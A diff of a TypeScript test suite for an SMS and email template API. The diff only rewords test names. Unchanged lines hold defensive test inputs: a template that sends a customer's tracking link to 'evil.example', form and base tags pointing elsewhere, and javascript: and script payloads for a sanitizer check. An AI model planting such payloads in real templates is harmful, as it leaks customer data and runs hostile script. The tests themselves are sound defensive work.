@@ -58,7 +58,7 @@ describe('writing templates', () => {
     expect((await admin.trpc.templates.listSms.query())[0]).toEqual(changed);
   });
 
-  it('refuses a variable that the type has no value for, also when the type alone is changed', async () => {
+  it('refuses a variable that the type has no value for, even if only the type changes', async () => {
     const refused = await admin.rest('POST', '/api/sms-templates', {
       ...sms,
       content: '{{details}}',
@@ -101,7 +101,7 @@ describe('writing templates', () => {
     '<form action="{{trackingUrl}}">',
     '<base href="{{trackingUrl}}">',
     '<img src="https://evil.example/?{{trackingUrl}}',
-  ])("refuses to hand the customer's link to another server: %s", async (content) => {
+  ])("refuses to leak the customer's link to another server: %s", async (content) => {
     const refused = await admin.rest('POST', '/api/email-templates', { ...email, content });
     expect(refused).toMatchObject({
       status: 400,
@@ -139,7 +139,7 @@ describe('writing templates', () => {
     expect((await admin.trpc.templates.listEmail.query())[0]).toMatchObject({ subject: 'First' });
   });
 
-  it('answers 404 for a deleted one, and 403 to everyone but administrators', async () => {
+  it('returns 404 for a deleted template, and 403 to everyone but administrators', async () => {
     const { id } = await admin.trpc.templates.createSms.mutate(sms);
     await admin.trpc.templates.removeSms.mutate({ id });
     for (const method of ['PATCH', 'DELETE'])
@@ -186,7 +186,7 @@ describe('a test sent to oneself', () => {
     });
   });
 
-  it('is not reported as sent if it waits for its hour or no provider is configured', async () => {
+  it("isn't reported as sent if it waits for business hours or no provider is configured", async () => {
     providers.testApp.clock.setTo('2026-11-21T03:00:00Z');
     expect(await admin.trpc.templates.sendTest.mutate({ channel: 'sms', ...sms })).toMatchObject({
       outcome: 'under_way',
@@ -203,7 +203,7 @@ describe('a test sent to oneself', () => {
     }
   });
 
-  it('is refused with the fields that are wrong, and after too many of them', async () => {
+  it('is refused with its invalid fields, and is rate limited', async () => {
     const wrong = await admin.trpc.templates.sendTest
       .mutate({ channel: 'email', ...email, subject: '{{amount}}', content: '{{nobody}}' })
       .catch((error: unknown) => error);
@@ -217,7 +217,7 @@ describe('a test sent to oneself', () => {
     ).rejects.toThrow("You've sent a lot of tests in the past hour");
   });
 
-  it('asks for a number if the account has none', async () => {
+  it('is refused by text if the account has no phone number', async () => {
     const { browser } = await signedInAs(providers.testApp, { role: 'admin', phone: null });
     await expect(
       browser.trpc.templates.sendTest.mutate({ channel: 'sms', ...sms }),
@@ -225,7 +225,7 @@ describe('a test sent to oneself', () => {
   });
 });
 
-describe('what sanitising takes out', () => {
+describe('detecting what sanitizing removes', () => {
   it.each([
     ['<p>Hi</p>', false],
     ['<P style="color: #fff; font-weight: 600;">Hi<br>there &amp; more</P>', false],
@@ -234,5 +234,5 @@ describe('what sanitising takes out', () => {
     ['<a href="javascript:x()">Go</a>', true],
     ['<script>x()</script>', true],
     ['<p style="background: url(https://a.example/p)">Hi</p>', true],
-  ])('%s: %s', (html, loses) => expect(losesToSanitizing(html)).toBe(loses));
+  ])('%s loses something: %s', (html, loses) => expect(losesToSanitizing(html)).toBe(loses));
 });
